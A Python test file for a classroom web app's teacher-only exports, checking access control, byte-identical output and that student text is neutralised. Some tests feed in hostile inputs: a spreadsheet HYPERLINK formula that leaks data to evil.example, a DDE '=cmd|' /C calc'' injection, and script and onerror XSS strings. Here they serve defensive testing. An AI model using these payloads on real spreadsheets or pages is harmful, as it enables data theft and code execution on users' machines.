"""The teacher's exports on a real database (SQLite and PostgreSQL): who may download, what is in them.

The numbers are checked against ``/agreement`` and the engine computed the
command line's way (case folders from the coding sheet); the consensus zip is
loaded with the engine's case loader.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

import engine
from reports.cli import main
from reports.web.classroom.export_state import class_state
from reports.web.classroom.exports import class_tables, readme, table_descriptions
from reports.web.classroom.models import Classroom, Student, Submission
from reports.web.classroom.upload import load_zip
from reports.web.pages import REPORT_CSP
from tests.reports.web.classroom.helpers import CODINGS, UNITS, coding_folders

TABLES = list(table_descriptions())
FILES = ["export.zip", "export.json", "export.xlsx", "consensus.zip", "report.html"]
FILES += [f"export/{t}.csv" for t in TABLES]


def _bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def _class(client, codings=CODINGS, units=UNITS):
    """A class of ukraine-russia whose students submitted ``codings``: (code, teacher, tokens)."""
    made = client.post("/api/classes", json={"case": "ukraine-russia", "units": units})
    assert made.status_code == 201, made.text
    code, teacher = made.json()["code"], made.json()["teacher_token"]
    tokens = {}
    for name, coding in codings.items():
        r = client.post(f"/api/classes/{code}/students", json={"name": name})
        assert r.status_code == 201, r.text
        tokens[name] = r.json()["student_token"]
        if coding:
            r = client.put(
                f"/api/classes/{code}/coding",
                json={"positions": coding},
                headers=_bearer(tokens[name]),
            )
            assert r.status_code == 200, r.text
    return code, teacher, tokens


def _get(client, code, teacher, what):
    r = client.get(f"/api/classes/{code}/{what}", headers=_bearer(teacher))
    assert r.status_code == 200, (what, r.text)
    return r


def _csv(client, code, teacher, table):
    text = _get(client, code, teacher, f"export/{table}.csv").text
    return list(csv.DictReader(io.StringIO(text)))


def test_every_export_is_the_teachers_alone(client):
    code, teacher, tokens = _class(client)
    other = _class(client, {"Dan": None})
    student = tokens["Ann"]
    for what in FILES:
        url = f"/api/classes/{code}/{what}"
        for refused in (
            client.get(url),
            client.get(url, headers=_bearer(student)),
            client.get(f"{url}?token={student}"),
            client.get(url, headers=_bearer(other[1])),
            client.get(f"{url}?token=not-a-token"),
        ):
            assert refused.status_code == 403, (what, refused.text)
            assert refused.json()["errors"][0]["field"] == "authorization"
        assert client.get(url, headers=_bearer(teacher)).status_code == 200, what
        ok = client.get(f"{url}?token={teacher}")
        assert ok.status_code == 200, what
        assert ok.headers["cache-control"] == "no-store"
    assert (
        client.get("/api/classes/ZZZZZZ/export.zip", headers=_bearer(teacher)).status_code == 404
    )
    unknown = client.get(f"/api/classes/{code}/export/nope.csv", headers=_bearer(teacher))
    assert unknown.status_code == 404 and "codings" in unknown.json()["errors"][0]["message"]
    assert client.get(f"/api/classes/{code}/export/nope.csv").status_code == 403


def test_formula_cells_are_neutralised_and_nothing_is_lost(client):
    evil = '=HYPERLINK("http://evil.example/?leak=1","click")'
    names = {evil: "+1", "@SUM(A1:A9)": "-2 is my reading", "Ann": "=1+1"}
    codings = {
        name: {
            "russia": {
                "nato": {
                    "ideal": "legal_bar" if n else "permanent_neutrality",
                    "salience": 0.5 + n / 10,
                    "red_line": bool(n),
                    "justification": why,
                }
            }
        }
        for n, (name, why) in enumerate(names.items())
    }
    code, teacher, _ = _class(client, codings, ["russia:nato"])
    roster = _csv(client, code, teacher, "roster")
    assert [r["name"] for r in roster] == ["'" + n if n[0] in "=@" else n for n in names]
    assert [r["name"].removeprefix("'") for r in roster] == list(names)  # readable, complete
    rows = _csv(client, code, teacher, "codings")
    said = {r["student"].removeprefix("'"): r["justification"] for r in rows}
    assert said == {n: "'" + why for n, why in names.items()}
    disputed = _csv(client, code, teacher, "disputed")
    assert {r["student"] for r in disputed} == {r["name"] for r in roster}
    # negative numbers stay numbers; only text is marked
    alpha = {r["variable"]: r for r in _csv(client, code, teacher, "agreement")}
    assert all(not r["alpha"].startswith("'") for r in alpha.values())
    # the JSON keeps the text exactly as written
    data = json.loads(_get(client, code, teacher, "export.json").text)
    assert [s["name"] for s in data["class"]["students"]] == list(names)
    assert {
        c["student"]: c["positions"]["russia"]["nato"]["justification"]
        for c in data["coding"]["codings"]
    } == names
    # the workbook: the same text, stored as text (never a formula)
    book = openpyxl.load_workbook(io.BytesIO(_get(client, code, teacher, "export.xlsx").content))
    cells = [c for row in book["roster"].iter_rows(min_row=2) for c in row]
    first = next(c for c in cells if c.value == "'" + evil)
    assert first.data_type == "s"
    assert not any(c.data_type == "f" for ws in book for row in ws.iter_rows() for c in row)


def test_the_report_escapes_every_student_string(client):
    name = "<script>alert('name')</script>"
    why = '<img src=x onerror="alert(1)"> & a second line\nhere'
    codings = {
        name: {"russia": {"nato": {"ideal": "legal_bar", "salience": 0.4, "justification": why}}},
        "Ben": {"russia": {"nato": {"ideal": "permanent_neutrality", "salience": 0.9}}},
    }
    code, teacher, _ = _class(client, codings, ["russia:nato"])
    r = _get(client, code, teacher, "report.html")
    html = r.text
    assert r.headers["content-security-policy"] == REPORT_CSP
    assert "<script" not in html and "<img" not in html
    assert "&lt;script&gt;alert(&#39;name&#39;)&lt;/script&gt;" in html
    assert "&lt;img src=x onerror=&#34;alert(1)&#34;&gt; &amp; a second line\nhere" in html
    assert re.search(r"<(link|img|script|iframe)\b", html) is None  # nothing fetched
    case = engine.load_case("ukraine-russia")
    for fact in (code, case.title, case.as_of.isoformat(), "not revealed to the students yet"):
        assert fact in html
    assert "on the 1 position at least one of them coded, of the 1 assigned" in html
    client.post(f"/api/classes/{code}/reveal", headers=_bearer(teacher))
    assert "revealed to the students</dd>" in _get(client, code, teacher, "report.html").text


def _values(case):
    return {
        k: (p.ideal, p.acceptable, p.salience, p.red_line)
        for k, p in case.at().items()
        if p is not None
    }


def test_the_consensus_zip_is_a_case_folder_the_engine_loads(client, tmp_path, capsys):
    codings = {**CODINGS, "Dan": {"russia": {"sanctions": {"ideal": "tighten", "salience": 1}}}}
    units = [*UNITS, "russia:sanctions"]
    code, teacher, _ = _class(client, codings, units)
    blob = _get(client, code, teacher, "consensus.zip").content
    with zipfile.ZipFile(io.BytesIO(blob)) as z:
        z.extractall(tmp_path / "unzipped")
    folder = tmp_path / "unzipped" / "ukraine-russia-consensus"
    got = engine.load_case(folder)
    case = engine.load_case("ukraine-russia")
    cli = engine.consensus(coding_folders(case, codings, tmp_path / "cli"), names=list(codings))
    assert _values(got) == _values(cli.case)
    # the rule for few coders: one student of four coded russia:sanctions, so it is left out;
    # ukraine:crimea, coded by two of four (Cat and Dan left it), is kept (an even split)
    assert ("russia", "sanctions") not in got.at()
    assert ("ukraine", "crimea") in got.at()
    ties = _csv(client, code, teacher, "consensus_ties")
    assert {"party": "ukraine", "issue": "crimea", "variable": "coded"}.items() <= ties[0].items()
    assert main(["check", str(folder)]) == 0, capsys.readouterr()
    # and a new class can start from it
    assert load_zip(blob).party_ids == case.party_ids
    made = client.post(
        "/api/classes?parties=russia&issues=nato",
        content=blob,
        headers={"content-type": "application/zip"},
    )
    assert made.status_code == 201, made.text


def test_the_consensus_needs_two_codings(client):
    code, teacher, _ = _class(client, {"Ann": CODINGS["Ann"], "Ben": None})
    r = client.get(f"/api/classes/{code}/consensus.zip", headers=_bearer(teacher))
    assert r.status_code == 409
    assert "two codings or more; 1 submitted" in r.json()["errors"][0]["message"]
    with zipfile.ZipFile(io.BytesIO(_get(client, code, teacher, "export.zip").content)) as z:
        names = z.namelist()
        notes = z.read(f"zopa-class-{code}/README.txt").decode()
    assert not any("consensus/" in n for n in names)
    assert "(not written: the consensus needs two codings or more)" in notes


def test_exports_are_byte_identical_for_the_same_class(client):
    code, teacher, tokens = _class(client)
    first = {what: _get(client, code, teacher, what).content for what in FILES}
    second = {what: _get(client, code, teacher, what).content for what in FILES}
    assert first == second
    for what in ("export.zip", "consensus.zip"):
        with zipfile.ZipFile(io.BytesIO(first[what])) as z:
            infos = z.infolist()
        assert [i.filename for i in infos] == sorted(i.filename for i in infos)
        assert {i.date_time for i in infos} == {(1980, 1, 1, 0, 0, 0)}
    # a resubmission changes the export
    r = client.put(
        f"/api/classes/{code}/coding",
        json={"positions": CODINGS["Ben"]},
        headers=_bearer(tokens["Ann"]),
    )
    assert r.status_code == 200
    assert _get(client, code, teacher, "export/codings.csv").content != first["export/codings.csv"]


def test_every_file_of_the_zip_is_the_one_its_own_route_gives(client):
    code, teacher, _ = _class(client)
    with zipfile.ZipFile(io.BytesIO(_get(client, code, teacher, "export.zip").content)) as z:
        inside = {n.split("/", 1)[1]: z.read(n) for n in z.namelist()}
    for table in TABLES:
        assert inside[f"{table}.csv"] == _get(client, code, teacher, f"export/{table}.csv").content
    assert inside["class.json"] == _get(client, code, teacher, "export.json").content
    assert inside["class.xlsx"] == _get(client, code, teacher, "export.xlsx").content
    assert inside["report.html"] == _get(client, code, teacher, "report.html").content
    with zipfile.ZipFile(io.BytesIO(_get(client, code, teacher, "consensus.zip").content)) as z:
        assert {n: z.read(n) for n in z.namelist()} == {
            n: b for n, b in inside.items() if n.startswith("ukraine-russia-consensus/")
        }


def test_csv_numbers_equal_the_agreement_json(client):
    code, teacher, _ = _class(client)
    agr = _get(client, code, teacher, "agreement").json()
    rows = {r["variable"]: r for r in _csv(client, code, teacher, "agreement")}
    assert list(rows) == ["ideal", "acceptable", "salience", "red_line"]
    for v, row in rows.items():
        assert float(row["alpha"]) == pytest.approx(agr["alpha"][v], abs=5e-7)
        low, high = agr["intervals"][v]
        assert (float(row["low"]), float(row["high"])) == pytest.approx((low, high), abs=5e-7)
        assert row["reading"] == agr["reading"][v]
        assert (int(row["coders"]), int(row["units"]), int(row["coded_units"])) == (3, 4, 4)
    versus = _csv(client, code, teacher, "versus")
    assert [r["student"] for r in versus] == [v["name"] for v in agr["versus"]]
    for row, want in zip(versus, agr["versus"], strict=True):
        for v in ("ideal", "acceptable", "salience", "red_line"):
            assert float(row[v]) == pytest.approx(want[v], abs=5e-7)
    spread = _csv(client, code, teacher, "spread")
    assert [(r["party"], r["issue"], int(r["coded"])) for r in spread] == [
        (u["party"], u["issue"], u["coded"]) for u in agr["spread"]
    ]
    disputed = _csv(client, code, teacher, "disputed")
    assert [(r["party"], r["issue"]) for r in disputed if r["student"] == "Ann"] == [
        (d["party"], d["issue"]) for d in agr["disputed"]
    ]
    data = json.loads(_get(client, code, teacher, "export.json").text)
    assert data["coding"]["agreement"]["alpha"] == {
        v: round(a, 6) for v, a in agr["alpha"].items()
    }
    # one row per student × coded unit × variable: Ann 4 units, Ben 4, Cat 3
    assert len(_csv(client, code, teacher, "codings")) == (4 + 4 + 3) * 4


def test_other_submissions_are_exported_as_stored(client, db):
    """A submission of a kind no section exports ("survey") is in the raw table, the JSON, the report."""
    code, teacher, _ = _class(client)
    codings_before = _get(client, code, teacher, "export/codings.csv").content
    body = {"answers": [{"party": "russia", "issue": "nato", "to": "=cmd|' /C calc'!A0"}]}
    with db.session() as s:
        c = s.query(Classroom).filter_by(code=code).one()
        ben = s.query(Student).filter_by(class_id=c.id, name="Ben").one()
        s.add(
            Submission(
                class_id=c.id, student_id=ben.id, kind="survey", body=body, note="-why", revision=3
            )
        )
    rows = _csv(client, code, teacher, "other_submissions")
    assert [(r["kind"], r["student"], r["revision"], r["note"]) for r in rows] == [
        ("survey", "Ben", "3", "'-why")
    ]
    assert json.loads(rows[0]["body"]) == body
    roster = _csv(client, code, teacher, "roster")
    assert [r["survey_revision"] for r in roster] == ["", "3", ""]
    data = json.loads(_get(client, code, teacher, "export.json").text)
    assert data["other_submissions"] == [
        {"kind": "survey", "student": "Ben", "revision": 3, "body": body, "note": "-why"}
    ]
    assert _get(client, code, teacher, "export/codings.csv").content == codings_before
    html = _get(client, code, teacher, "report.html").text
    assert "Other submissions" in html and "=cmd|&#39; /C calc&#39;!A0" in html


def test_an_interval_coding_is_saved_and_exported(client, tmp_path):
    def cap(lo, hi, ideal):
        return {"ukraine": {"army_cap": {"ideal": ideal, "acceptable": {"min": lo, "max": hi},
                                         "salience": 0.5}}}  # fmt: skip

    codings = {"Ann": cap(600, 900, 800), "Ben": cap(500, 850, 700), "Cat": cap(650, 1000, 900)}
    code, teacher, _ = _class(client, codings, ["ukraine:army_cap"])
    rows = [r for r in _csv(client, code, teacher, "codings") if r["variable"] == "acceptable"]
    assert [r["value"] for r in rows] == ["600..900", "500..850", "650..1000"]
    blob = _get(client, code, teacher, "consensus.zip").content
    with zipfile.ZipFile(io.BytesIO(blob)) as z:
        z.extractall(tmp_path)
    pos = engine.load_case(tmp_path / "ukraine-russia-consensus").at()[("ukraine", "army_cap")]
    assert (pos.ideal, pos.acceptable.lo, pos.acceptable.hi) == (800, 600, 900)  # the medians


def test_every_link_on_the_teacher_page_works(client):
    code, teacher, _ = _class(client)
    page = client.get(f"/class/{code}/teacher?token={teacher}")
    assert page.status_code == 200
    section = page.text.split('id="downloads"', 1)[1].split("</section>", 1)[0]
    links = [h.replace("&amp;", "&") for h in re.findall(r'href="([^"]+)"', section)]
    assert sorted(link.split("?")[0] for link in links) == sorted(
        f"/api/classes/{code}/{what}" for what in FILES
    )
    kinds = {".zip": "application/zip", ".json": "application/json", ".csv": "text/csv",
             ".html": "text/html", ".xlsx": "application/vnd.openxmlformats"}  # fmt: skip
    for link in links:
        assert link.endswith(f"?token={teacher}")
        r = client.get(link)  # no header: the token in the link is enough
        assert r.status_code == 200, (link, r.text)
        suffix = Path(link.split("?")[0]).suffix
        assert r.headers["content-type"].startswith(kinds[suffix]), link
        disposition = "inline" if suffix == ".html" else "attachment"
        assert r.headers["content-disposition"].startswith(disposition), link


def test_tables_readme_and_sections_agree():
    case = engine.load_case("ukraine-russia")
    state = class_state("K7QX2M", case, [["russia", "nato"]], draws=0)
    assert list(class_tables(state)) == TABLES
    text = readme(state, with_consensus=False)
    for table in TABLES:
        assert f"\n{table}.csv " in text
    assert "ukraine-russia-consensus/" in text
